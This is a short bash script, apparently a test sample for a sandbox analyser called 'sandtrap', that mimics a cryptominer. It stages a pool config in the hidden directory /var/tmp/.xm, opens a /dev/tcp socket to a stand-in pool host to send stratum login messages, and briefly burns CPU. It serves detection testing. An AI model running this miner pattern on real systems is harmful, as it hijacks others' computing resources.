#!/bin/bash
# Cryptocurrency mining: drops an xmrig-style config, speaks stratum (mining.subscribe/login) to port 3333 and burns CPU.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
mkdir -p /var/tmp/.xm
cat > /var/tmp/.xm/config.json <<J
{"pools":[{"url":"stratum+tcp://pool.minexmr.example:3333","user":"4AdUndXHHZ9pfQj27UMB1","pass":"x"}],"cpu":{"max-threads-hint":100}}
J
exec 3<>/dev/tcp/pool.minexmr.example/3333
printf '{"id":1,"jsonrpc":"2.0","method":"mining.subscribe","params":["xmrig/6.21.0"]}\n' >&3
printf '{"id":2,"jsonrpc":"2.0","method":"mining.authorize","params":["4AdUndXHHZ9pfQj27UMB1","x"]}\n' >&3
exec 3>&-
timeout 3 sha256sum /dev/zero
echo hashed
